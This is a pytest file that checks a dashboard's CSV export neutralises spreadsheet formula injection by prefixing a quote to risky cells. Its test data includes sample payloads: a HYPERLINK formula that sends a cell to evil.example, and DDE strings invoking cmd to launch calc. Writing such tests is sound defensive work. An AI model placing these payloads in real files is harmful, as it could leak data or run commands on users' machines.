"""CSV downloads open in a spreadsheet as data: member text that starts like a formula is
escaped (OWASP: a leading single quote, the field quoted), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import polars as pl
import pytest
from app_fixtures import SAMPLE_KEY, CallbackClient, filter_values, write_sample_coalition

from dashboard.app import create_app
from dashboard.components.chart_card import csv_text
from dashboard.ingest import ingest

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
ATTACKS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_that_starts_like_a_formula_is_prefixed_and_quoted():
    frame = pl.DataFrame({"title": ATTACKS, "attended": list(range(len(ATTACKS)))})
    text = csv_text(frame)
    cells = [row[0] for row in rows_of(text)[1:]]
    assert cells == ["'" + attack for attack in ATTACKS]
    assert (
        text.splitlines()[1]
        == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")",0'
    )
    # read back as a spreadsheet would: nothing begins with a formula character
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_numbers_stay_numbers_negative_ones_included():
    frame = pl.DataFrame(
        {
            "org": ["Eastside", "=cmd"],
            "change": [-5, 3],
            "rate": [-0.25, 1.5],
            "marked": ["-12", "<11"],  # a count column marked for a download is text
        }
    )
    rows = rows_of(csv_text(frame))
    assert rows[1] == ["Eastside", "-5", "-0.25", "-12"]
    assert rows[2] == ["'=cmd", "3", "1.5", "<11"]
    assert pl.read_csv(io.StringIO(csv_text(frame)))["change"].dtype == pl.Int64


def test_harmless_text_is_written_as_before():
    frame = pl.DataFrame({"title": ["Rally, downtown", 'The "big" one', None], "n": [1, 2, 3]})
    assert csv_text(frame) == frame.write_csv()


def test_list_columns_are_escaped_too():
    frame = pl.DataFrame({"co_hosts": [["=evil", "tenants"]]})
    assert rows_of(csv_text(frame))[1] == ["'=evil;tenants"]


# --- through the dashboard's download, from a member's export -----------------------------


@pytest.fixture(scope="module")
def planted_app(tmp_path_factory, monkeypatch_module):
    """The sample coalition with formula text in every event title of one org and in an
    org's name, as a member's export could carry it."""
    root = tmp_path_factory.mktemp("formulas")
    data = write_sample_coalition(root / "data")
    events = pl.read_csv(data / "tenants" / "events.csv", infer_schema=False)
    events = events.with_columns(pl.lit(HYPERLINK).alias("title"))
    events.write_csv(data / "tenants" / "events.csv")
    orgs = (data / "organizations.csv").read_text()
    (data / "organizations.csv").write_text(
        orgs.replace("Eastside Tenants Union", "@SUM(1+1)*cmd|' /C calc'!A0")
    )
    monkeypatch_module.setenv("COALITION_KEY", SAMPLE_KEY)
    ingest(data, root / "warehouse.duckdb")
    return create_app(root / "warehouse.duckdb", warm=False)


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


def test_member_text_in_a_download_comes_out_inert(planted_app):
    client = CallbackClient(planted_app)
    start = date.today() - timedelta(days=730)  # the sample's data: the last two years
    values = filter_values(date_from=start.isoformat(), orgs=["tenants"])
    response = client.update("turnout-goals-download.data", [1], state=values)
    content = response["turnout-goals-download"]["data"]["content"]
    table = rows_of(content)
    header, rows = table[0], table[1:]
    assert rows, "the planted events have goals in the period"
    title, org_name = header.index("title"), header.index("org_name")
    assert {row[title] for row in rows} == {"'" + HYPERLINK}
    assert {row[org_name] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert "\"'=HYPERLINK(" in content
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    goal = pl.read_csv(io.StringIO(content))["turnout_goal"]
    assert goal.dtype.is_numeric()
